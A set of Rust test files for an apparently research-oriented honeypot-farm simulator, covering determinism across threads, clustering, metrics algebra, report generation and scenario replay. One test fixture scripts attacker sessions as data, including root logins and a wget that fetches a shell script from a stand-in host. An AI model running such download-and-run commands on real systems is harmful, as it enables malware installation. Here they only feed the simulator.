}

// ---------------------------------------------------------------------------
// Thread-count invariance
// ---------------------------------------------------------------------------

#[test]
fn feature_extraction_thread_invariant() {
    let out = fixture();
    assert!(out.dataset.len() > 100, "fixture must be non-trivial");
    let serial = extract(&out.dataset).matrix();
    for threads in [2usize, 8] {
        let parallel = extract_threaded(&out.dataset, threads).matrix();
        diff_features(
            &serial,
            &parallel,
            "threads=1",
            &format!("threads={threads}"),
        )
        .assert_identical();
    }
}

#[test]
fn clustering_thread_invariant() {
    let out = fixture();
    let cfg = KMeansConfig::default();
    let serial = ClusterRun::over(&out.dataset, 1, &cfg);
    assert!(serial.output.k >= 2, "fixture must actually cluster");
    for threads in [2usize, 8] {
        let parallel = ClusterRun::over(&out.dataset, threads, &cfg);
        diff_clusters(
            &serial.output,
            &parallel.output,
            "threads=1",
            &format!("threads={threads}"),
        )
        .assert_identical();
    }
}

/// The rendered TSVs — what `hfarm cluster` writes and the goldens pin —
/// must also be byte-identical across thread counts.
#[test]
fn rendered_tsvs_thread_invariant() {
    let out = fixture();
    let cfg = KMeansConfig::default();
    let render = |threads: usize| {
        let run = ClusterRun::over(&out.dataset, threads, &cfg);
        (
            assignments_tsv(&run.features, &run.matrix, &run.output),
            summary_tsv(&run.output),
        )
    };
    let one = render(1);
    assert_eq!(one, render(2), "threads=2 TSVs diverged from threads=1");
    assert_eq!(one, render(8), "threads=8 TSVs diverged from threads=1");
}

// ---------------------------------------------------------------------------
// Streaming-vs-materialized and snapshot round-trip
// ---------------------------------------------------------------------------

fn snapshot_bytes() -> Vec<u8> {
    let mut bytes = Vec::new();
    fixture()
        .to_snapshot(&fixture_config())
        .write_to(&mut bytes)
        .expect("write snapshot");
    bytes
}

#[test]
fn streaming_features_match_materialized() {
    let bytes = snapshot_bytes();
    let materialized = extract(&fixture().dataset);
    let (plan, streamed) =
        features_from_snapshot_stream(bytes.as_slice()).expect("streaming extract");
    assert_eq!(plan.len(), fixture().dataset.plan.len());
    diff_features(
        &materialized.matrix(),
        &streamed.matrix(),
        "materialized",
        "streaming",
    )
    .assert_identical();

    let cfg = KMeansConfig::default();
    let mat_run = ClusterRun::finish(materialized, &cfg);
    let stream_run = ClusterRun::finish(streamed, &cfg);
    diff_clusters(
        &mat_run.output,
        &stream_run.output,
        "materialized",
        "streaming",
    )
    .assert_identical();
}

#[test]
fn snapshot_roundtrip_clusters_identically() {
    let bytes = snapshot_bytes();
    let reloaded = SimOutput::from_snapshot(
        Snapshot::read_from(&mut bytes.as_slice()).expect("snapshot load"),
    );
    let cfg = KMeansConfig::default();
    let original = ClusterRun::over(&fixture().dataset, 1, &cfg);
    let roundtrip = ClusterRun::over(&reloaded.dataset, 1, &cfg);
    diff_features(&original.matrix, &roundtrip.matrix, "original", "roundtrip").assert_identical();
    diff_clusters(&original.output, &roundtrip.output, "original", "roundtrip").assert_identical();
}

// ---------------------------------------------------------------------------
// Partition associativity (proptest)
// ---------------------------------------------------------------------------

/// Row indices where a new day starts (candidate cut points).
fn day_boundaries(store: &SessionStore) -> Vec<usize> {
    let rows = store.rows();
    let mut cuts = Vec::new();
    for i in 1..rows.len() {
        if rows[i].start_secs / SECS_PER_DAY != rows[i - 1].start_secs / SECS_PER_DAY {
            cuts.push(i);
        }
    }
    cuts
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// Fold any day-aligned partition of the fixture's rows segment by
    /// segment, merge the shards in order, and the finished matrix must be
    /// bit-identical to the one-shot extraction.
    #[test]
    fn any_day_partition_folds_to_the_same_features(
        cut_mask in prop::collection::vec(any::<bool>(), 8..32)
    ) {
        let dataset = &fixture().dataset;
        let store = &dataset.sessions;
        prop_assert!(store.is_day_ordered());

        let boundaries = day_boundaries(store);
        let cuts: Vec<usize> = boundaries
            .iter()
            .enumerate()
            .filter(|(i, _)| *cut_mask.get(i % cut_mask.len()).unwrap_or(&false))
            .map(|(_, &b)| b)
            .collect();

        let mut heads = HeadMap::new();
        heads.sync(&store.commands);

        let mut merged = FeatureFold::new();
        let mut start = 0usize;
        for end in cuts.into_iter().chain(std::iter::once(store.len())) {
            let mut shard = FeatureFold::new();
            for v in store.iter_range(start..end) {
                shard.ingest(&dataset.plan, &heads, &v);
            }
            merged.merge(shard);
            start = end;
        }

        let partitioned = merged.finish(dataset.plan.len()).matrix();
        let one_shot = extract(dataset).matrix();
        diff_features(&one_shot, &partitioned, "one-shot", "partitioned").assert_identical();
    }
}

// ---------------------------------------------------------------------------
// Edge cases — defined, non-panicking output
// ---------------------------------------------------------------------------

fn empty_dataset() -> Dataset {
    Dataset {
        sessions: SessionStore::new(),
        artifacts: ArtifactStore::new(),
        plan: FarmPlan::paper(),
    }
}

#[test]
fn empty_store_yields_empty_defined_output() {
    let run = ClusterRun::over(&empty_dataset(), 4, &KMeansConfig::default());
    assert!(run.matrix.is_empty());
    assert_eq!(run.output.k, 0);
    assert!(run.output.assignments.is_empty());
    assert!(run.output.sizes.is_empty());

    // The report surfaces still render (header-only TSVs, no panic).
    let a = assignments_tsv(&run.features, &run.matrix, &run.output);
    assert_eq!(a.lines().count(), 1, "assignments TSV is header-only:\n{a}");
    let s = summary_tsv(&run.output);
    assert!(
        s.contains("# clients\t0"),
        "summary renders its preamble:\n{s}"
    );
    let t = summary_text(&run.features, &run.output);
    assert!(t.contains("clients 0"), "text summary renders:\n{t}");
}

/// One client cannot be split: k = 1, one cluster of size 1, and the
/// degenerate silhouette is pinned rather than NaN.
#[test]
fn single_client_collapses_to_one_cluster() {
    let world = honeyfarm::geo::World::build(1, &honeyfarm::geo::WorldConfig::tiny());
    let text = "name solo\nprotocol ssh\nhoneypot 0\nclient 203.0.113.7\nport 40001\n\
                login root root\ncmd uname -a\nclose\n";
    let rec = Scenario::parse(text).expect("scenario").replay();
    let mut c = Collector::new(&world, FarmPlan::paper());
    c.ingest(&rec);
    let run = ClusterRun::over(&c.finish(), 1, &KMeansConfig::default());
    assert_eq!(run.matrix.len(), 1);
    assert_eq!(run.output.k, 1);
    assert_eq!(run.output.sizes, vec![1]);
    assert_eq!(run.output.assignments[0].1, 0);
    assert_eq!(run.output.silhouette, -1.0);
}

/// All-identical feature rows: every candidate k collapses to a single
/// nonempty cluster, so the canonical output is k = 1 with the pinned
/// degenerate silhouette — not a panic, not an arbitrary split.
#[test]
fn identical_clients_collapse_to_one_cluster() {
    let n = 12usize;
    let mut row = [0.0f64; N_FEATURES];
    row[0] = 0.25;
    row[7] = 0.5;
    let m = FeatureMatrix {
        clients: (1..=n as u32).collect(),
        data: row.iter().copied().cycle().take(n * N_FEATURES).collect(),
    };
    let out = cluster(&m, &KMeansConfig::default());
    assert_eq!(out.k, 1);
    assert_eq!(out.sizes, vec![n as u64]);
    assert_eq!(out.silhouette, -1.0);
    assert!(out.assignments.iter().all(|&(_, c)| c == 0));
}

/// Degenerate columns (0/0 rates on clients with no logins, no commands)
/// must come out of the NaN guard as finite unit-interval cells — checked
/// on the guard itself and on every cell of the real fixture matrix.
#[test]
fn matrix_cells_are_finite_unit_interval() {
    assert_eq!(unit01(f64::NAN), 0.0);
    assert_eq!(unit01(f64::INFINITY), 0.0);
    assert_eq!(unit01(-3.0), 0.0);
    assert_eq!(unit01(7.5), 1.0);

    let m = extract(&fixture().dataset).matrix();
    assert!(!m.is_empty());
    for i in 0..m.len() {
        for (f, &v) in m.row(i).iter().enumerate() {
            assert!(
                v.is_finite() && (0.0..=1.0).contains(&v),
                "cell [{i}][{f}] out of range: {v}"
            );
        }
    }
}
