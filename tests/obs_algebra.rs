//! Property tests for the observability layer's algebra and formats.
//!
//! The registry's correctness rests on merge being a commutative monoid
//! over every metric kind — that is what makes the folded snapshot
//! independent of flush order, thread interleaving, and shard assignment.
//! These properties pin it down directly:
//!
//! * histogram merge is associative, commutative, and has the empty
//!   histogram as identity;
//! * counters saturate instead of wrapping, in any merge order;
//! * span guards nest and unwind in balance for arbitrary scripts;
//! * `metrics.json` and `spans.tsv` round-trip arbitrary (hostile) metric
//!   names and values exactly.

use std::collections::BTreeMap;
use std::sync::Mutex;

use honeyfarm::obs::{self, Histogram, MetricsSnapshot, RunManifest, SpanStats};
use proptest::prelude::*;

/// Characters metric names are drawn from: everything that stresses the
/// JSON and TSV escapers — quotes, backslashes, tabs, newlines, control
/// characters, and non-ASCII.
const NAME_CHARS: &[char] = &[
    'a', 'b', 'z', '0', '9', '.', '_', '-', ' ', '"', '\\', '/', '\t', '\n', '\r', '\u{1}',
    '\u{7f}', 'λ', '√', '🦀',
];

/// Strategy: a non-empty name over [`NAME_CHARS`].
fn name() -> impl Strategy<Value = String> {
    prop::collection::vec(0usize..NAME_CHARS.len(), 1..10)
        .prop_map(|ix| ix.into_iter().map(|i| NAME_CHARS[i]).collect())
}

/// Strategy: one histogram sample, biased across all bucket magnitudes.
fn sample() -> impl Strategy<Value = u64> {
    (any::<u64>(), 0usize..64).prop_map(|(v, s)| v >> s)
}

fn hist(samples: &[u64]) -> Histogram {
    let mut h = Histogram::new();
    for &s in samples {
        h.record(s);
    }
    h
}

fn merged(a: &Histogram, b: &Histogram) -> Histogram {
    let mut m = a.clone();
    m.merge(b);
    m
}

proptest! {
    /// Histogram merge is associative and commutative, with the empty
    /// histogram as identity — fold order can never change a manifest.
    #[test]
    fn histogram_merge_is_commutative_monoid(
        a in prop::collection::vec(sample(), 0..30),
        b in prop::collection::vec(sample(), 0..30),
        c in prop::collection::vec(sample(), 0..30),
    ) {
        let (ha, hb, hc) = (hist(&a), hist(&b), hist(&c));
        prop_assert_eq!(merged(&merged(&ha, &hb), &hc), merged(&ha, &merged(&hb, &hc)));
        prop_assert_eq!(merged(&ha, &hb), merged(&hb, &ha));
        prop_assert_eq!(merged(&ha, &Histogram::new()), ha.clone());
        prop_assert_eq!(merged(&Histogram::new(), &ha), ha);
    }

    /// Merging two histograms equals recording the concatenated samples,
    /// and the aggregates match the samples exactly.
    #[test]
    fn histogram_merge_equals_concat(
        a in prop::collection::vec(sample(), 0..30),
        b in prop::collection::vec(sample(), 0..30),
    ) {
        let both: Vec<u64> = a.iter().chain(b.iter()).copied().collect();
        prop_assert_eq!(merged(&hist(&a), &hist(&b)), hist(&both));
        let h = hist(&both);
        prop_assert_eq!(h.count, both.len() as u64);
        if let Some(&mx) = both.iter().max() {
            prop_assert_eq!(h.max, mx);
            prop_assert_eq!(h.min, *both.iter().min().unwrap());
        }
        for &s in &both {
            let i = Histogram::bucket_index(s);
            prop_assert!(Histogram::bucket_lo(i) <= s, "sample below its bucket");
            prop_assert!(h.buckets[i] > 0, "sample's bucket is empty");
        }
    }

    /// The whole-snapshot merge is associative and commutative across
    /// every section, including when counters sit at the saturation
    /// boundary: u64 addition saturates instead of wrapping, so any
    /// merge order yields the same (pinned) value.
    #[test]
    fn snapshot_merge_commutes_and_saturates(
        names in prop::collection::vec(name(), 1..5),
        vals in prop::collection::vec(any::<u64>(), 1..5),
        near_max in any::<u64>(),
    ) {
        let snap = |offset: u64| {
            let mut s = MetricsSnapshot::default();
            for (i, n) in names.iter().enumerate() {
                let v = vals[i % vals.len()].wrapping_add(offset);
                s.counters.insert(n.clone(), v | (u64::MAX - near_max.min(8)));
                s.gauges.insert(n.clone(), v as i64);
                s.histograms.insert(n.clone(), hist(&[v]));
                let mut sp = SpanStats::default();
                sp.record(v, v / 2);
                s.spans.insert(n.clone(), sp);
            }
            s
        };
        let (a, b, c) = (snap(0), snap(1), snap(2));
        let fold = |xs: &[&MetricsSnapshot]| {
            let mut m = MetricsSnapshot::default();
            for x in xs {
                m.merge(x);
            }
            m
        };
        // All six orders agree (counters near u64::MAX saturate there).
        let base = fold(&[&a, &b, &c]);
        for perm in [[&a, &c, &b], [&b, &a, &c], [&b, &c, &a], [&c, &a, &b], [&c, &b, &a]] {
            prop_assert_eq!(fold(&perm), base.clone());
        }
        // Explicit saturation pin: MAX + anything == MAX.
        for v in base.counters.values() {
            prop_assert!(*v >= u64::MAX - 8, "saturating add must pin at the top");
        }
    }

    /// `metrics.json` round-trips arbitrary names and values exactly.
    #[test]
    fn metrics_json_roundtrip(
        counters in prop::collection::vec((name(), any::<u64>()), 0..6),
        gauges in prop::collection::vec((name(), any::<i64>()), 0..6),
        hists in prop::collection::vec((name(), prop::collection::vec(sample(), 1..10)), 0..4),
        spans in prop::collection::vec((name(), prop::collection::vec((any::<u64>(), any::<u64>()), 1..5)), 0..4),
        tool in name(),
    ) {
        let m = build_manifest(&tool, &counters, &gauges, &hists, &spans);
        let parsed = RunManifest::parse_json(&m.to_json())
            .map_err(|e| proptest::test_runner::TestCaseError::fail(e.to_string()))?;
        prop_assert_eq!(parsed, m);
    }

    /// `spans.tsv` round-trips arbitrary names and timings exactly.
    #[test]
    fn spans_tsv_roundtrip(
        spans in prop::collection::vec((name(), prop::collection::vec((any::<u64>(), any::<u64>()), 1..5)), 0..6,),
    ) {
        let m = build_manifest("tsv", &[], &[], &[], &spans);
        let parsed = RunManifest::parse_spans_tsv(&m.spans_tsv())
            .map_err(|e| proptest::test_runner::TestCaseError::fail(e.to_string()))?;
        prop_assert_eq!(parsed, m.spans);
    }

    /// Span guards stay balanced for arbitrary nesting scripts: depth
    /// returns to zero after every top-level span, and the recorded count
    /// equals the number of guards opened.
    #[test]
    fn span_stack_balances(script in prop::collection::vec(0u8..6, 0..12)) {
        // Span recording touches process-global state; serialize cases.
        static SPAN_LOCK: Mutex<()> = Mutex::new(());
        let _g = SPAN_LOCK.lock().unwrap_or_else(|e| e.into_inner());
        obs::reset();
        obs::enable();
        for &depth in &script {
            nest(depth);
            prop_assert_eq!(obs::span_depth(), 0);
        }
        let snap = obs::snapshot();
        obs::disable();
        obs::reset();
        let expected: u64 = script.iter().map(|&d| u64::from(d)).sum();
        let got = snap.spans.get("algebra.nest").map_or(0, |s| s.count);
        prop_assert_eq!(got, expected);
    }
}

/// Open `depth` nested spans and unwind them.
fn nest(depth: u8) {
    if depth == 0 {
        return;
    }
    let _s = obs::span("algebra.nest");
    assert!(obs::span_depth() >= 1);
    nest(depth - 1);
}

/// Assemble a manifest from generated parts (duplicate names collapse via
/// the maps, matching registry behaviour).
fn build_manifest(
    tool: &str,
    counters: &[(String, u64)],
    gauges: &[(String, i64)],
    hists: &[(String, Vec<u64>)],
    spans: &[(String, Vec<(u64, u64)>)],
) -> RunManifest {
    let mut m = RunManifest {
        schema_version: obs::SCHEMA_VERSION,
        tool: tool.to_string(),
        counters: BTreeMap::new(),
        gauges: BTreeMap::new(),
        histograms: BTreeMap::new(),
        spans: BTreeMap::new(),
    };
    for (n, v) in counters {
        m.counters.insert(n.clone(), *v);
    }
    for (n, v) in gauges {
        m.gauges.insert(n.clone(), *v);
    }
    for (n, samples) in hists {
        let mut h = Histogram::new();
        for &s in samples {
            h.record(s);
        }
        m.histograms.insert(n.clone(), h);
    }
    for (n, execs) in spans {
        let mut s = SpanStats::default();
        for &(wall, cpu) in execs {
            s.record(wall, cpu);
        }
        m.spans.insert(n.clone(), s);
    }
    m
}
