//! Parallel-execution determinism: `threads = N` must be bit-identical to
//! `threads = 1` — same session rows in the same order, same digest universe,
//! same tag database — with the script cache on or off.

use honeyfarm::prelude::*;

fn run(threads: usize, use_script_cache: bool) -> SimOutput {
    let mut cfg = SimConfig::test(8);
    cfg.threads = threads;
    cfg.use_script_cache = use_script_cache;
    Simulation::run(cfg)
}

fn assert_identical(a: &SimOutput, b: &SimOutput) {
    // Session rows: identical content in identical (plan) order.
    assert_eq!(a.dataset.len(), b.dataset.len());
    let rows_equal = a
        .dataset
        .sessions
        .rows()
        .iter()
        .zip(b.dataset.sessions.rows())
        .all(|(x, y)| x == y);
    assert!(rows_equal, "rows must match in content and order");
    assert_eq!(a.n_clients, b.n_clients);

    // Digest universe (sorted: the pool's intern order is an implementation
    // detail of the store, the set of hashes is the invariant).
    let digests = |out: &SimOutput| {
        let mut v: Vec<_> = out
            .dataset
            .sessions
            .digests
            .iter()
            .map(|(_, d)| d)
            .collect();
        v.sort();
        v
    };
    assert_eq!(digests(a), digests(b));

    // Artifact metadata, including ingest-order-sensitive first_seen.
    assert_eq!(a.dataset.artifacts.len(), b.dataset.artifacts.len());
    for (_, d) in a.dataset.sessions.digests.iter() {
        let ma = a.dataset.artifacts.get(&d).expect("artifact in a");
        let mb = b.dataset.artifacts.get(&d).expect("artifact in b");
        assert_eq!(ma.first_seen, mb.first_seen, "first_seen for {d:?}");
        assert_eq!(ma.occurrences, mb.occurrences);
    }

    // Tag database: same associations, including first-wins resolution.
    assert_eq!(a.tags.len(), b.tags.len());
    for (h, e) in a.tags.iter() {
        assert_eq!(b.tags.tag(h), Some(e.tag.as_str()), "tag for {h:?}");
        assert_eq!(
            b.tags.campaign(h),
            Some(e.campaign.as_str()),
            "campaign for {h:?}"
        );
    }
}

#[test]
fn four_threads_bit_identical_to_one() {
    let serial = run(1, false);
    assert!(serial.dataset.len() > 100, "fixture must be non-trivial");
    let parallel = run(4, false);
    assert_identical(&serial, &parallel);
}

#[test]
fn four_threads_bit_identical_to_one_with_script_cache() {
    let serial = run(1, true);
    let parallel = run(4, true);
    assert_identical(&serial, &parallel);
}

#[test]
fn two_threads_bit_identical_to_one() {
    assert_identical(&run(1, false), &run(2, false));
}
