//! Parallel-execution determinism, proven with the testkit's differential
//! oracles: `threads = N` must be bit-identical to `threads = 1` — same
//! session rows in the same order, same digest universe, same artifact
//! metadata, same tag database — within each script-cache setting, and the
//! collector must be invariant to ingest batching. On divergence the oracle
//! names the exact field (`rows[i].client_port: 2 != 999`) instead of
//! failing on an opaque struct comparison.

use honeyfarm::prelude::*;
use honeyfarm::testkit::{assert_outputs_identical, diff_sim_outputs};

fn run(threads: usize, use_script_cache: bool) -> SimOutput {
    let mut cfg = SimConfig::test(8);
    cfg.threads = threads;
    cfg.use_script_cache = use_script_cache;
    Simulation::run(cfg)
}

#[test]
fn thread_counts_bit_identical() {
    let serial = run(1, false);
    assert!(serial.dataset.len() > 100, "fixture must be non-trivial");
    for threads in [2usize, 8] {
        let parallel = run(threads, false);
        assert_outputs_identical(
            "threads=1",
            &serial,
            &format!("threads={threads}"),
            &parallel,
        );
    }
}

#[test]
fn four_threads_bit_identical_to_one_with_script_cache() {
    let serial = run(1, true);
    let parallel = run(4, true);
    assert_outputs_identical("threads=1+cache", &serial, "threads=4+cache", &parallel);
}

#[test]
fn repeat_runs_bit_identical() {
    // Same config, fresh process state: the engine has no hidden
    // nondeterminism (hash-map iteration, time, &c.).
    let report = diff_sim_outputs("first", &run(1, false), "second", &run(1, false));
    assert!(report.is_identical(), "{}", report.render());
}

#[test]
fn collector_invariant_to_ingest_batching() {
    // Replay a spread of scenarios into session records, then collect them
    // one-by-one and in uneven chunks; the resulting dataset must be
    // identical either way.
    use honeyfarm::geo::{World, WorldConfig};
    use honeyfarm::testkit::{diff_datasets, Scenario};

    let mut records = Vec::new();
    for i in 0..24u32 {
        let text = format!(
            "name batch-{i}\nprotocol {}\nhoneypot {}\nclient 203.0.113.{}\nport {}\n\
             login root pw{i}\ncmd uname -a\ncmd wget http://198.51.100.9/x{i}.sh\nclose\n",
            if i % 3 == 0 { "telnet" } else { "ssh" },
            i % 5,
            (i % 200) + 1,
            40_000 + i as u16,
        );
        records.push(Scenario::parse(&text).expect("scenario").replay());
    }

    let world = World::build(1, &WorldConfig::tiny());
    let collect = |chunks: &[usize]| {
        let mut c = Collector::new(&world, FarmPlan::paper());
        let mut i = 0usize;
        let mut sizes = chunks.iter().cycle();
        while i < records.len() {
            let n = (*sizes.next().unwrap()).min(records.len() - i).max(1);
            c.ingest_batch(&records[i..i + n]);
            i += n;
        }
        c.finish()
    };

    let one_by_one = collect(&[1]);
    let uneven = collect(&[3, 1, 16, 7, 2]);
    let report = diff_datasets("one-by-one", &one_by_one, "uneven", &uneven);
    assert!(report.is_identical(), "{}", report.render());
}
