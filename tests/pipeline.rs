//! End-to-end integration: simulate → collect → aggregate → report → claims,
//! exercising every crate boundary in one flow.

use honeyfarm::core::classify::{classify, Category};
use honeyfarm::prelude::*;

fn run_small() -> (SimOutput, Aggregates) {
    let out = Simulation::run(SimConfig {
        seed: 1234,
        scale: Scale::of(0.001),
        window: StudyWindow::first_days(45),
        use_script_cache: false,
        threads: 1,
    });
    let agg = Aggregates::compute(&out.dataset);
    (out, agg)
}

#[test]
fn full_pipeline_produces_consistent_report() {
    let (out, agg) = run_small();
    let report = Report::build_with_tags(&out.dataset, &agg, &out.tags);

    // Table 1 shares sum to 1 and match the classifier's direct counts.
    let share_sum: f64 = report.table1.rows.iter().map(|r| r.share).sum();
    assert!((share_sum - 1.0).abs() < 1e-9);
    let mut direct = [0u64; 5];
    for v in out.dataset.sessions.iter() {
        direct[classify(&v).index()] += 1;
    }
    for row in &report.table1.rows {
        assert_eq!(
            row.sessions,
            direct[row.category.index()],
            "{}",
            row.category
        );
    }

    // Flow diagram is monotone.
    let f5 = &report.fig5;
    assert!(f5.total >= f5.with_creds);
    assert!(f5.with_creds >= f5.login_ok);
    assert!(f5.login_ok >= f5.with_cmds);
    assert!(f5.with_cmds >= f5.with_uri);
    assert_eq!(f5.total, out.dataset.len() as u64);

    // Fig. 2 rank series covers all honeypots and is descending.
    assert_eq!(report.fig2.series.len(), out.dataset.plan.len());
    assert!(report.fig2.series.windows(2).all(|w| w[0].1 >= w[1].1));

    // Hash tables are sorted by their keys and carry tags.
    let t4 = &report.table4;
    assert!(t4.rows.windows(2).all(|w| w[0].sessions >= w[1].sessions));
    let t5 = &report.table5;
    assert!(t5.rows.windows(2).all(|w| w[0].clients >= w[1].clients));
    let t6 = &report.table6;
    assert!(t6.rows.windows(2).all(|w| w[0].days >= w[1].days));
    assert!(t4.rows.iter().all(|r| !r.tag.is_empty()));

    // Duration ECDFs: NO_CRED is shortest-lived, NO_CMD longest.
    let ecdf = |cat: Category| {
        report
            .fig7
            .ecdfs
            .iter()
            .find(|(c, _)| *c == cat)
            .map(|(_, e)| e.clone())
            .unwrap()
    };
    assert!(ecdf(Category::NoCred).median().unwrap() < ecdf(Category::NoCmd).median().unwrap());

    // Daily IP counts: overall >= each category.
    for row in &report.fig11.daily {
        for ci in 0..5 {
            assert!(row[ci] <= row[5]);
        }
    }
}

#[test]
fn report_writes_all_files() {
    let (out, agg) = run_small();
    let report = Report::build_with_tags(&out.dataset, &agg, &out.tags);
    let dir = std::env::temp_dir().join(format!("hf_report_{}", std::process::id()));
    report.write_dir(&dir).expect("write");
    let expected = [
        "table1.tsv",
        "table2.tsv",
        "table3.tsv",
        "table4.tsv",
        "table5.tsv",
        "table6.tsv",
        "fig01_deployment.tsv",
        "fig02_sessions_per_honeypot.tsv",
        "fig03_bands_top5.tsv",
        "fig04_bands_all.tsv",
        "fig05_flow.tsv",
        "fig06_category_timeseries.tsv",
        "fig07_duration_ecdf.tsv",
        "fig08_category_bands_all.tsv",
        "fig09_category_bands_top5.tsv",
        "fig10_23_client_countries.tsv",
        "fig11_daily_ips.tsv",
        "fig12_spread_ecdf.tsv",
        "fig13_days_ecdf.tsv",
        "fig14_clients_per_honeypot.tsv",
        "fig15_multirole.tsv",
        "fig16_24_regional.tsv",
        "fig17_freshness.tsv",
        "fig18_19_hashes_per_honeypot.tsv",
        "fig20_clients_per_hash.tsv",
        "fig21_hashes_per_client.tsv",
        "fig22_campaign_length.tsv",
        "summary.md",
    ];
    for name in expected {
        let path = dir.join(name);
        let meta = std::fs::metadata(&path).unwrap_or_else(|_| panic!("missing {name}"));
        assert!(meta.len() > 0, "{name} is empty");
    }
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn determinism_across_full_pipeline() {
    let (out_a, agg_a) = run_small();
    let (out_b, agg_b) = run_small();
    assert_eq!(out_a.dataset.len(), out_b.dataset.len());
    let claims_a = Claims::compute(&agg_a);
    let claims_b = Claims::compute(&agg_b);
    assert_eq!(claims_a.to_json(), claims_b.to_json());
    let r_a = Report::build_with_tags(&out_a.dataset, &agg_a, &out_a.tags);
    let r_b = Report::build_with_tags(&out_b.dataset, &agg_b, &out_b.tags);
    assert_eq!(r_a.table1.to_tsv(), r_b.table1.to_tsv());
    assert_eq!(r_a.table4.to_tsv(), r_b.table4.to_tsv());
    assert_eq!(r_a.fig17.to_tsv(), r_b.fig17.to_tsv());
}

#[test]
fn tagdb_covers_every_observed_hash() {
    let (out, agg) = run_small();
    for (hid, h) in agg.hashes.iter().enumerate() {
        if h.sessions == 0 {
            continue;
        }
        let digest = out.dataset.sessions.digests.get(hid as u32);
        assert!(
            out.tags.tag(&digest).is_some(),
            "hash {} has no tag",
            digest.short()
        );
        assert!(out.tags.campaign(&digest).is_some());
    }
}

#[test]
fn cowrie_log_renders_for_sampled_sessions() {
    let (out, _) = run_small();
    // Reconstruct a record-like line stream from stored sessions via the
    // live-log path: take a few intrusion sessions and check they format.
    let mut checked = 0;
    for v in out.dataset.sessions.iter() {
        if v.n_commands() > 0 && checked < 5 {
            // The store is lossy only in that it interned strings; event
            // rendering needs a SessionRecord, so build a minimal one.
            let rec = SessionRecord {
                honeypot: v.honeypot(),
                protocol: v.protocol(),
                client_ip: v.client_ip(),
                client_port: 1,
                start: v.start(),
                duration_secs: v.duration_secs(),
                ended_by: v.ended_by(),
                ssh_client_version: v.ssh_version().map(|s| s.to_string()),
                logins: v
                    .logins()
                    .map(|(u, p, ok)| honeyfarm::honeypot::LoginAttempt {
                        creds: honeyfarm::proto::creds::Credentials::new(u, p),
                        accepted: ok,
                    })
                    .collect(),
                commands: v
                    .commands()
                    .map(|(c, known)| honeyfarm::shell::CommandRecord {
                        input: c.to_string(),
                        known,
                    })
                    .collect(),
                uris: v.uris().map(|u| u.to_string()).collect(),
                file_hashes: v.file_hashes().collect(),
                download_hashes: vec![],
            };
            let lines = honeyfarm::honeypot::EventLog::render(&rec);
            assert!(lines.len() >= 2);
            for l in lines {
                let _: serde_json::Value = serde_json::from_str(&l).expect("valid json");
            }
            checked += 1;
        }
    }
    assert_eq!(checked, 5);
}
