//! Scenario-replay conformance: every checked-in `.hfs` scenario under
//! `tests/scenarios/` replays through the real honeypot stack and its
//! event log must match the checked-in `.golden` next to it.
//!
//! After an intended behavior change, regenerate with:
//!
//! ```text
//! UPDATE_GOLDENS=1 cargo test --test scenario_goldens
//! ```
//!
//! Stale goldens fail with a line-level diff naming exactly what moved.

use std::collections::BTreeSet;
use std::path::PathBuf;

use honeyfarm::core::classify::Category;
use honeyfarm::testkit::scenario::classify_record;
use honeyfarm::testkit::{assert_golden, Scenario};

fn scenario_paths() -> Vec<PathBuf> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/scenarios");
    let mut paths: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("tests/scenarios exists")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "hfs"))
        .collect();
    paths.sort();
    paths
}

/// Each scenario's event log matches its golden (or regenerates it under
/// `UPDATE_GOLDENS=1`).
#[test]
fn scenario_event_logs_match_goldens() {
    let paths = scenario_paths();
    assert!(
        paths.len() >= 6,
        "expected ≥6 scenarios, found {}",
        paths.len()
    );
    for path in paths {
        let scenario = Scenario::load(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert_golden(&path.with_extension("golden"), &scenario.event_log());
    }
}

/// Replaying the same scenario twice yields byte-identical event logs —
/// the precondition for golden regeneration being deterministic.
#[test]
fn replay_is_deterministic() {
    for path in scenario_paths() {
        let scenario = Scenario::load(&path).expect("scenario loads");
        assert_eq!(
            scenario.event_log(),
            scenario.event_log(),
            "{} replays nondeterministically",
            path.display()
        );
    }
}

/// The checked-in scenarios cover every leaf of the paper's session
/// taxonomy, and the intrusion leaves include a download.
#[test]
fn scenarios_cover_the_taxonomy() {
    let mut seen: BTreeSet<&'static str> = BTreeSet::new();
    let mut saw_download = false;
    let mut saw_file_touch = false;
    for path in scenario_paths() {
        let scenario = Scenario::load(&path).expect("scenario loads");
        let record = scenario.replay();
        seen.insert(classify_record(&record).label());
        saw_download |= !record.download_hashes.is_empty();
        saw_file_touch |= !record.file_hashes.is_empty();
    }
    for cat in Category::ALL {
        assert!(
            seen.contains(cat.label()),
            "no scenario covers {}: have {seen:?}",
            cat.label()
        );
    }
    assert!(saw_download, "no scenario produces a download hash");
    assert!(saw_file_touch, "no scenario touches a file");
}
