//! Panic-freedom fuzz suites over the pipeline's parsing surfaces, driven
//! by the testkit's structured strategies (`honeyfarm::testkit::strategies`).
//!
//! Each suite runs 256 deterministic proptest cases (the vendored proptest
//! seeds case *i* from a fixed constant, so CI and local runs see the same
//! inputs):
//!
//! * telnet negotiation bytes → `TelnetDecoder` / `LineAssembler`
//! * SSH identification lines → `SshIdent::parse` (+ render round-trip)
//! * shell command lines → `split_statements` (+ lex→render→lex
//!   idempotence) and full `ShellSession::execute`
//! * URI-bearing payloads → `extract_uris`
//! * mutated snapshot bytes → `Snapshot::read_from`, which must reject
//!   every corruption with a typed `SnapshotError`, never a panic
//!
//! A checked-in corpus of real Cowrie-style command lines
//! (`tests/scenarios/corpus_commands.txt`) seeds the shell surfaces with
//! known-interesting inputs on top of the generated ones.

use std::sync::OnceLock;

use honeyfarm::farm::Snapshot;
use honeyfarm::prelude::*;
use honeyfarm::proto::ssh_ident::SshIdent;
use honeyfarm::proto::telnet::{LineAssembler, TelnetDecoder, TelnetEvent};
use honeyfarm::shell::{extract_uris, split_statements, ShellSession, SyntheticFetcher};
use honeyfarm::testkit::{
    command_line, render_statements, snapshot_mutation, ssh_ident_line, telnet_stream,
    uri_command_line,
};
use proptest::prelude::*;

/// A small but real snapshot, serialized once and mutated per case.
fn snapshot_bytes() -> &'static [u8] {
    static BYTES: OnceLock<Vec<u8>> = OnceLock::new();
